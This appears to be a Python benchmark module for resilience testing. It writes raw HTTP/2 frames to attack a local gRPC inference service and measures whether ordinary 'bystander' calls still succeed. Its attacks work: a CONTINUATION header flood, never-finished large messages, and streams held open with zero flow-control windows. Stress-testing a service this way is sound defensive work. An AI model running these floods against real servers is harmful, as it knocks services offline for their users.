"""Attacks over gRPC, by a client that writes the frames of HTTP/2 itself, and good calls beside them."""

from __future__ import annotations

import asyncio
import contextlib
import struct
from collections import defaultdict
from dataclasses import dataclass
from typing import Any

import numpy as np

from benchmarks.bystanders import Bystander
from benchmarks.clients import PATIENCE, Outcome
from benchmarks.harness import golden_digits

SERVICE = "/inference.GRPCInferenceService/"
INFER = f"{SERVICE}ModelInfer"
HEALTH = "/grpc.health.v1.Health/"
REFLECTION = "/grpc.reflection.v1alpha.ServerReflection/ServerReflectionInfo"

# Types and flags of frames, and a setting.
DATA, HEADERS, RESET, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 8, 9
END_STREAM = ACKNOWLEDGED = 1
END_HEADERS = 4
INITIAL_WINDOW = 4
WINDOW, FRAME_BYTES = 65_535, 16_384

# Seconds between the beginnings of two connections. A thousand calls at once are one long turn of the event loop, in
# which benchmarks/watched.py cannot tell the steps of single calls apart.
STAGGER = 0.1
# Seconds until another call begins in the place of one that the service has ended.
PAUSE = 0.5

# A little less than the largest message.
MESSAGE_BYTES = 7_900_000

# A header of 4 kB, how many frames with one are sent at a time, and how often they are sent.
LONG_HEADER, FLOOD_FRAMES, FLOOD_TIMES = b"\0\1a\x7f\x81\x1f" + b"b" * 4096, 250, 20


def frame(kind: int, flags: int, stream: int, content: bytes = b"") -> bytes:
    return len(content).to_bytes(3) + bytes([kind, flags]) + stream.to_bytes(4) + content


def headers(path: str) -> bytes:
    """Return the headers of a call, each as a literal without compression."""
    pairs = {":method": "POST", ":scheme": "http", ":path": path, ":authority": "localhost"}
    pairs |= {"content-type": "application/grpc", "te": "trailers"}
    return b"".join(b"\0" + b"".join(bytes([len(text)]) + text.encode() for text in pair) for pair in pairs.items())


class Connection:
    """A connection that keeps the rules of HTTP/2.

    Args:
        window: the bytes that the service may send for a call.
    """

    def __init__(self, window: int) -> None:
        self._initial = window
        self._next = 1
        self._room, self._default = WINDOW, WINDOW
        # By stream: how much more of its room was used than the service first gave, and the frame that ended it.
        self._used: dict[int, int] = defaultdict(int)
        self.ended: dict[int, int] = {}
        self._changed = asyncio.Event()
        self._reading: asyncio.Task[None] | None = None
        self._has_settings = False
        self.is_open = False

    async def open(self, port: int) -> None:
        self._reader, self._writer = await asyncio.open_connection("127.0.0.1", port)
        settings = struct.pack(">HI", INITIAL_WINDOW, self._initial)
        self._writer.write(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0, settings))
        self.is_open = True
        self._reading = asyncio.create_task(self._read())

    def close(self) -> None:
        if self._reading:
            self._reading.cancel()
            self._writer.transport.abort()

    def call(self, path: str) -> int:
        """Begin a call and return its stream."""
        stream, self._next = self._next, self._next + 2
        self._writer.write(frame(HEADERS, END_HEADERS, stream, headers(path)))
        return stream

    async def send(self, stream: int, message: bytes, size: int) -> None:
        """Send the beginning of a message that says to have ``size`` bytes, and end the call if it is the whole."""
        content = memoryview(b"\0" + struct.pack(">I", size) + message)
        while content and self.is_open and stream not in self.ended:
            room = min(FRAME_BYTES, len(content), self._room, self._default - self._used[stream])
            if room <= 0:
                await self.change()
                continue
            is_last = room == len(content) and len(message) == size
            self._writer.write(frame(DATA, END_STREAM if is_last else 0, stream, bytes(content[:room])))
            content = content[room:]
            self._room -= room
            self._used[stream] += room
            await self._writer.drain()

    async def flood(self, path: str) -> None:
        """Begin a call whose headers have 20 MB, and do not end them. The limits of the settings hold already."""
        while self.is_open and not self._has_settings:
            await self.change()
        self._writer.write(frame(HEADERS, 0, self._next, headers(path)))
        more = frame(CONTINUATION, 0, self._next, LONG_HEADER) * FLOOD_FRAMES
        for _ in range(FLOOD_TIMES):
            self._writer.write(more)
            await self._writer.drain()
            await asyncio.sleep(0)

    async def change(self) -> None:
        """Wait until a frame arrives."""
        self._changed.clear()
        await self._changed.wait()

    async def _read(self) -> None:
        with contextlib.suppress(OSError, asyncio.IncompleteReadError):
            while True:
                head = await self._reader.readexactly(9)
                content = await self._reader.readexactly(int.from_bytes(head[:3]))
                self._take(head[3], head[4], int.from_bytes(head[5:]), content)
                self._changed.set()
        self.is_open = False
        self._changed.set()

    def _take(self, kind: int, flags: int, stream: int, content: bytes) -> None:
        if kind == SETTINGS and not flags & ACKNOWLEDGED:
            settings = dict(struct.iter_unpack(">HI", content))
            self._default = settings.get(INITIAL_WINDOW, self._default)
            self._writer.write(frame(SETTINGS, ACKNOWLEDGED, 0))
            self._has_settings = True
        elif kind == PING and not flags & ACKNOWLEDGED:
            self._writer.write(frame(PING, ACKNOWLEDGED, 0, content))
        elif kind == WINDOW_UPDATE and stream == 0:
            self._room += int.from_bytes(content)
        elif kind == WINDOW_UPDATE:
            self._used[stream] -= int.from_bytes(content)
        elif kind == RESET or (kind == HEADERS and flags & END_STREAM):
            self.ended[stream] = kind


@dataclass(frozen=True)
class GrpcAttack:
    """Calls that never end by themselves. When the service has ended one, another one begins.

    Args:
        paths: the methods.
        connections, calls: how many connections, and calls on each.
        size: bytes of each message. The last ones are never sent, unless the message is a request.
        window: the bytes of a response that may arrive.
    """

    paths: tuple[str, ...]
    connections: int = 8
    calls: int = 20
    size: int = 0
    window: int = WINDOW

    def prepared(self) -> bytes:
        """Return a request for the largest batch, with the labels of all classes in the response."""
        from serving.grpc.messages import REQUESTS

        images = np.resize(golden_digits()[0], (1024, 28, 28))
        tensor = {"name": "images", "datatype": "UINT8", "shape": images.shape}
        outputs = [
            {"name": name, "parameters": {"classification": {"int64_param": 10}}}
            for name in ("logits", "probabilities")
        ]
        request = REQUESTS["ModelInfer"](
            model_name="mnist", inputs=[tensor], outputs=outputs, raw_input_contents=[images.tobytes()]
        )
        content: bytes = request.SerializeToString()
        return content

    async def run(self, port: int, request: bytes, seconds: float) -> Outcome:
        """Call for some seconds, and return how many calls and connections the service has ended."""
        outcome = Outcome()
        with contextlib.suppress(TimeoutError):
            async with asyncio.timeout(seconds), asyncio.TaskGroup() as group:
                for number in range(self.connections):
                    group.create_task(self._connect(port, request, outcome, number * STAGGER))
        return outcome

    async def _connect(self, port: int, request: bytes, outcome: Outcome, pause: float) -> None:
        await asyncio.sleep(pause)
        while True:
            connection = Connection(self.window)
            try:
                await connection.open(port)
                async with asyncio.TaskGroup() as group:
                    for number in range(self.calls):
                        path = self.paths[number % len(self.paths)]
                        group.create_task(self._call(connection, path, request, outcome))
            except OSError:
                await asyncio.sleep(0.1)
            finally:
                connection.close()
            outcome.statuses["closed"] += 1
            await asyncio.sleep(STAGGER)

    async def _call(self, connection: Connection, path: str, request: bytes, outcome: Outcome) -> None:
        with contextlib.suppress(OSError, RuntimeError):  # The connection is closed.
            await self._call_again(connection, path, request, outcome)

    async def _call_again(self, connection: Connection, path: str, request: bytes, outcome: Outcome) -> None:
        while connection.is_open:
            stream = connection.call(path)
            if self.window == 0:
                message = request if path == INFER else b""
                await connection.send(stream, message, len(message))
            elif self.size:
                await connection.send(stream, bytes(self.size - 10), self.size)
            while connection.is_open and stream not in connection.ended:
                await connection.change()
            if stream in connection.ended:
                outcome.statuses["reset" if connection.ended.pop(stream) == RESET else "status"] += 1
                await asyncio.sleep(PAUSE)


@dataclass(frozen=True)
class HeaderFlood(GrpcAttack):
    """Calls whose headers have no end. Each has a connection of its own."""

    calls: int = 1

    async def _call_again(self, connection: Connection, path: str, request: bytes, outcome: Outcome) -> None:
        await connection.flood(path)


GRPC_ATTACKS: dict[str, GrpcAttack] = {
    "gRPC: unfinished messages": GrpcAttack((INFER, f"{HEALTH}Check", f"{SERVICE}ServerLive"), size=MESSAGE_BYTES),
    "gRPC: calls without a message": GrpcAttack((f"{HEALTH}Check", f"{HEALTH}Watch", REFLECTION, INFER), 12, 100),
    "gRPC: responses that nobody reads": GrpcAttack((INFER, f"{SERVICE}ServerMetadata"), 12, 100, window=0),
    "gRPC: headers without an end": HeaderFlood((INFER,), 48),
}


@dataclass
class GrpcBystander(Bystander):
    """A client that makes a good call again and again."""

    method: str = INFER
    port: int = 0
    _channel: Any = None

    async def _ask(self, _: int) -> tuple[str, bytes]:
        import grpc

        if self._channel is None:
            self._channel = grpc.aio.insecure_channel(f"127.0.0.1:{self.port}")
        try:
            return "200", await self._channel.unary_unary(self.method)(self.request, timeout=PATIENCE)
        except grpc.aio.AioRpcError as error:
            if error.code() is grpc.StatusCode.CANCELLED:  # The attack is over.
                raise asyncio.CancelledError from error
            codes = {grpc.StatusCode.RESOURCE_EXHAUSTED: "429", grpc.StatusCode.UNAVAILABLE: "closed"}
            return codes.get(error.code(), error.code().name), str(error.details()).encode()


def grpc_bystanders(port: int) -> list[Bystander]:
    """Return a client that sends a digit, and one that asks for the health."""
    from serving.grpc.messages import REQUESTS, RESPONSES

    image, label = (each[0] for each in golden_digits())
    tensor = {"name": "images", "datatype": "UINT8", "shape": (1, 28, 28)}
    request = REQUESTS["ModelInfer"](model_name="mnist", inputs=[tensor], raw_input_contents=[image.tobytes()])

    def is_digit(content: bytes) -> bool:
        response = RESPONSES["ModelInfer"].FromString(content)
        names = [output.name for output in response.outputs]
        probabilities = np.frombuffer(response.raw_output_contents[names.index("probabilities")], "<f4")
        return bool(probabilities.argmax() == label)

    return [
        GrpcBystander("gRPC digit", request.SerializeToString(), is_digit, method=INFER, port=port),
        GrpcBystander("gRPC health", b"", lambda content: content == b"\x08\x01", method=f"{HEALTH}Check", port=port),
    ]
